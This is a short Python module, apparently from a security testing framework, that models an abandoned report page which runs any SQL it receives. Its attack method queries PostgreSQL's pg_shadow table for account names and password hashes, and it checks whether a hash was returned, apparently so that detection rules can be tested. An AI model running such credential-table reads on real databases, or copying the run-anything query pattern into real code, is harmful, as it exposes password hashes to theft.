"""F2: the database's own accounts and their password hashes are read."""

from backwatch.attack.protocols.server import HostileServer
from backwatch.attack.protocols.tables import LOOT
from backwatch.attack.techniques.abused import AbusedPsycopg, told


class ReadsAccounts(AbusedPsycopg):
    """On psycopg: a page for reports that was left behind, and runs whatever it is given."""

    code = "F2"
    attack = "reads the database's own accounts"
    reference = "https://attack.mitre.org/techniques/T1087/"
    rule = "credential-table-read"

    def work(self) -> None:
        """Makes the usual report."""
        self._report("SELECT name, mail FROM customers ORDER BY id LIMIT 10")

    def meet(self) -> object:
        """Makes the attacker's."""
        return self._report("SELECT usename, passwd FROM pg_shadow")

    def _report(self, statement: str) -> list[list[str]]:
        with self.connected().cursor() as cursor:
            cursor.execute(statement)
            return told(cursor)

    @classmethod
    def succeeded(cls, service: HostileServer, got: object) -> bool:
        """A password hash came back."""
        del service
        return LOOT in str(got)
